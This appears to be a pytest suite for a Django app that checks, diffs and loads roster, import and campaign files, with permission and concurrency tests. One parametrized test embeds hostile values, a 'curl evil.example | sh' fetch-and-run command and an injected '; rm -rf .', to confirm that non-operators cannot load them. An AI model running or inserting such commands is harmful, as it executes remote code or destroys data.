"""Files in the pages: checked before anything holds, compared, loaded once, and never over what others loaded."""

from __future__ import annotations

import re

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test.utils import CaptureQueriesContext

from chairlift.core.log import Kind
from chairlift.server import actions, drafts
from chairlift.server.actions import NotPossible
from chairlift.server.models import Campaign, Draft, Entry, RosterFile
from tests.server.world import campaign_text
from tests.spreadsheets import workbook

SERVICES, FILE, IMPORT = "/operator/services", "/campaigns/tiny/file", "/operator/import"
NEW = '\n[[service]]\nname = "n<b>w"\nsquad = "Ibis"\nrepo = "new"\n'


def held():
    return RosterFile.objects.get().text


def check(client, text, address=SERVICES, **more):
    return client.post(address, {"text": text, "began": drafts.edition(more.pop("base", held())), **more})


def sent(client, name, data, **more):
    return client.post(IMPORT, {"file": SimpleUploadedFile(name, data), **more})


class TestServices:
    def test_checked_compared_loaded(self, at_desk, visit):
        olga, before = visit("Olga"), held()
        answer = check(olga, (before + NEW).replace("\n", "\r\n"))
        assert (answer.status_code, held()) == (302, before)
        page = olga.page(answer["Location"])
        assert "5 lines in, 0 out" in page
        assert "n&lt;b&gt;w" in page
        assert "n<b>w" not in page
        assert olga.post(answer["Location"]).status_code == 302
        assert held() == before + NEW
        assert Entry.objects.filter(kind=Kind.LOADED).last().by == "Olga"
        assert "This file was loaded" in olga.page(answer["Location"])

    def test_every_problem_has_its_line_and_nothing_is_kept(self, at_desk, visit):
        before = held()
        bad = before + '[[service]]\nname = "x"\nsquad = "Ibex"\nrepo = 3\n'
        answer = check(visit("Olga"), bad)
        page = answer.content.decode()
        line = bad.count("\n")
        assert f"Line {line - 1}: there is no squad called &#x27;Ibex&#x27;; add a [[squad]] of this name" in page
        assert f"Line {line}: repo is a whole number, not a text" in page
        assert "Ibex&quot;" in page.partition("<textarea")[2], "what was typed is kept"
        assert (answer.status_code, held(), Draft.objects.count()) == (409, before, 0)

    def test_as_they_type_only_the_problems_come_back(self, at_desk, visit):
        olga = visit("Olga")
        address, headers = SERVICES, {"HX-Request": "true"}
        answer = olga.post(address, {"text": "x = ["}, headers=headers)
        assert answer.status_code == 200
        assert "Line 1: this is no TOML" in answer.content.decode()
        assert "<html" not in answer.content.decode()
        assert "No problem" in olga.post(address, {"text": held()}, headers=headers).content.decode()
        assert not Draft.objects.exists()
        assert f'hx-post="{SERVICES}"' in olga.page(SERVICES)

    def test_sent_twice_it_is_loaded_once(self, at_desk, visit):
        olga = visit("Olga")
        where = check(olga, held() + NEW)["Location"]
        count = Entry.objects.count()
        for words in ("is loaded: it holds", "was loaded already"):
            assert words in olga.post(where, follow=True).content.decode()
        assert Entry.objects.count() == count + 1

    def test_what_somebody_loaded_meanwhile_is_not_lost_and_both_are_shown(self, at_desk, visit):
        olga, base = visit("Olga"), held()
        where = check(olga, base + NEW)["Location"]
        late = check(olga, base + NEW, base="older")["Location"]
        other = base + '\n[[service]]\nname = "theirs"\nsquad = "Ibis"\nrepo = "theirs"\n'
        actions.load_roster(other, "services.toml", "Lena", at_desk.now)
        for address in (where, late):
            answer = olga.post(address)
            page = answer.content.decode()
            assert (answer.status_code, held()) == (409, other)
            assert "another file was loaded meanwhile" in page
            assert "theirs" in page
            assert "n&lt;b&gt;w" in page
            assert "Load this file" not in page
        assert "n&lt;b&gt;w" in olga.page(f"{SERVICES}?draft={where.rpartition('/')[2]}")

    def test_who_and_what_is_left_out_is_said_before(self, at_desk, visit):
        olga = visit("Olga")
        text = held().replace('[[person]]\nname = "Olga"\n', "").replace('name = "desk"', 'name = "desk2"')
        page = olga.page(check(olga, text)["Location"])
        assert "No longer named:</strong> desk." in page
        assert "Out at once:</strong> Olga. You are among those" in page

    def test_a_large_file_comes_and_goes_as_a_file(self, at_desk, visit):
        olga = visit("Olga")
        large = held() + "# more\n" * 40_000
        actions.load_roster(large, "services.toml", "Lena", at_desk.now)
        page = olga.page(SERVICES)
        assert "<textarea" not in page
        assert len(page) < 20_000
        assert olga.get("/operator/services.toml").content.decode() == large
        file = SimpleUploadedFile("s.toml", (large + NEW).encode())
        where = olga.post(SERVICES, {"file": file, "began": drafts.edition(large)})["Location"]
        olga.post(where)
        assert held() == large + NEW
        broken = olga.post(SERVICES, {"file": SimpleUploadedFile("s.toml", b"\xff"), "began": "x"})
        assert "it is no UTF-8 at byte 0" in broken.content.decode()


class TestImport:
    CSV = "Service,Repo,Squad,Contact\nshop,,Ibis,\nnew,acme/new,Zebra,zed@example.org\n,x,y,z\n"

    def test_a_file_is_shown_row_by_row_and_loaded_without_its_problems(self, at_desk, visit):
        olga, before = visit("Olga"), held()
        where = sent(olga, "s.csv", self.CSV.encode())["Location"]
        page = olga.page(where)
        assert held() == before
        for words in ("1 added", "1 changed", "1 problem", "squad Heron -&gt; Ibis", "s.csv:4", "zed@example.org"):
            assert words in page
        assert "None of them gets a voice by it" in page
        assert re.findall(r'<th scope="row">(.*?)</th>', olga.page(f"{where}?what=problem")) == ["-"]
        refused = olga.post(where)
        assert (refused.status_code, held()) == (409, before)
        olga.post(where, {"without": "1"})
        assert at_desk.roster.service("shop").squad.name == "Ibis"

    def test_who_a_catalogue_names_may_not_speak_for_the_service(self, at_desk, visit):
        """Ana is known, and asked; but the squad is not hers before an operator says so."""
        olga = visit("Olga")
        csv = b"Service,Repo,Squad,Contact\nnew,acme/new,Zebra,ana@example.org\n"
        olga.post(sent(olga, "s.csv", csv)["Location"])
        assert at_desk.roster.service("new").squad.suggested == "Ana"
        with pytest.raises(NotPossible, match="Ana is neither in Zebra, which owns new"):
            at_desk.choose("new", "DIY")
        assert visit("Ana").post("/campaigns/tiny/say/new", {"what": "hold", "why": "wait"}).status_code == 403
        assert "asked, but not confirmed" in visit("Ana").page("/campaigns/tiny/squads/Zebra")

    def test_real_files_of_each_kind(self, at_desk, visit):
        olga = visit("Olga")
        book = workbook(["Squad", "Service", "Repo"], ["Heron", "x", "a/x"], [None, "y", "a/y"], merge=["A2:A3"])
        catalogue = (
            b"kind: Component\nmetadata: {name: z, annotations: {github.com/project-slug: a/z}}\n"
            b"spec: {owner: ibis, type: service}\n"
        )
        for name, data, more in (
            ("s.xlsx", book, {}), ("catalog-info.yaml", catalogue, {"forge": "local"}),
            ("CODEOWNERS", b"* @acme/ibis\n", {"service": "cart"}),
        ):  # fmt: skip
            olga.post(sent(olga, name, data, **more)["Location"])
        roster = at_desk.roster
        assert [roster.service(name).squad.name for name in ("x", "y", "z", "cart")] == [
            "Heron",
            "Heron",
            "Ibis",
            "Ibis",
        ]
        assert roster.service("z").forge == "local"

    def test_what_is_no_catalogue_changes_nothing(self, at_desk, visit):
        olga, before = visit("Olga"), held()
        page = olga.page(sent(olga, "a<b>.pdf", b"%PDF")["Location"])
        assert "no catalogue is read from a file of this name" in page
        assert "a&lt;b&gt;.pdf:1" in page
        assert "Load this file" not in page
        assert olga.post(IMPORT).status_code == 409
        assert held() == before

    def test_a_page_holds_a_hundred_rows_of_any_number_and_asks_no_more_for_more(self, at_desk, visit):
        olga = visit("Olga")

        def opened(count):
            rows = "".join(f"s{n},acme/s{n},Heron\n" for n in range(count))
            where = sent(olga, "s.csv", f"Service,Repo,Squad\n{rows}".encode())["Location"]
            with CaptureQueriesContext(connection) as asked:
                page = olga.page(where)
            assert len(re.findall(r"<td>s\.csv:\d+</td>", page)) == min(count, 100)
            return len(asked), len(page)

        few, many = opened(10), opened(2_000)
        assert few[0] == many[0]
        assert many[1] < 300_000
        assert "page 2 of 20" in olga.page(f"/operator/drafts/{Draft.objects.latest('pk').pk}?page=2")


class TestCampaignFile:
    def load(self, client, text, campaign):
        answer = check(client, text, FILE, base=campaign.text)
        return answer if answer.status_code != 302 else client.post(answer["Location"])

    def test_the_project_team_loads_it(self, at_desk, visit):
        lena, text = visit("Lena"), campaign_text().replace('title = "Tiny"', 'title = "Tinier"')
        where = check(lena, text, FILE, base=at_desk.campaign.text)["Location"]
        assert "1 line in, 1 out" in lena.page(where)
        assert at_desk.campaign.value.title == "Tiny"
        lena.post(where)
        assert at_desk.campaign.value.title == "Tinier"
        assert Entry.objects.filter(kind=Kind.LOADED).last().by == "Lena"

    @pytest.mark.parametrize(
        ("old", "new"),
        [
            ("sed -i", "curl evil.example | sh; sed -i"),
            ('recipe = "command"', 'recipe = "django"'),
            ("environments =", 'settings = { x = "; rm -rf ." }\nenvironments ='),
        ],
    )
    def test_what_runs_on_the_server_is_the_operators_to_decide(self, at_desk, visit, old, new):
        text = campaign_text().replace(old, new)
        answer = self.load(visit("Lena"), text, at_desk.campaign)
        assert (answer.status_code, at_desk.campaign.text) == (409, campaign_text())
        assert "ask an operator to load it" in answer.content.decode()
        self.load(visit("Olga"), text, at_desk.campaign)
        assert at_desk.campaign.text == text

    @pytest.mark.parametrize(
        ("old", "new", "message"),
        [
            ('slug = "tiny"', 'slug = "other"', "the slug is &#x27;other&#x27;, and this is tiny; keep the slug"),
            ('lead = "Lena"', 'lead = "Zoe"', "there is no person called &#x27;Zoe&#x27;"),
            ('name = "DIY"', 'name = "By hand"', "level &#x27;DIY&#x27; is chosen by some services of tiny"),
            ("deadline = 2026-06-01", "deadline = 2025-06-01", "is not after choose_by"),
        ],
    )
    def test_what_cannot_be(self, at_desk, visit, old, new, message):
        at_desk.choose("shop", "DIY")
        answer = self.load(visit("Lena"), campaign_text().replace(old, new), at_desk.campaign)
        assert message in answer.content.decode()
        assert (answer.status_code, Campaign.objects.count(), at_desk.campaign.text) == (409, 1, campaign_text())

    def test_who_left_the_team_since_the_check_loads_nothing_more(self, at_desk, visit):
        mats = visit("Mats")
        text = campaign_text().replace('title = "Tiny"', 'title = "Mine"')
        where = check(mats, text, FILE, base=at_desk.campaign.text)["Location"]
        actions.load_campaign(campaign_text().replace('"Mats"', '"Bo"'), "c.toml", "operator", at_desk.now)
        assert mats.post(where).status_code == 403

    def test_of_two_the_second_is_told(self, at_desk, visit):
        lena, mats = visit("Lena"), visit("Mats")
        texts = [campaign_text().replace('title = "Tiny"', f'title = "{name}"') for name in ("One", "Two")]
        first, second = (
            check(client, text, FILE, base=campaign_text())["Location"]
            for client, text in zip((lena, mats), texts, strict=True)
        )
        lena.post(first)
        assert mats.post(second).status_code == 409
        assert at_desk.campaign.value.title == "One"


def test_drafts_do_not_stay_for_ever(at_desk, visit):
    olga = visit("Olga")
    check(olga, held() + NEW)
    at_desk.tick(drafts.KEPT + drafts.KEPT)
    check(visit("Olga"), held() + NEW)
    assert Draft.objects.count() == 1
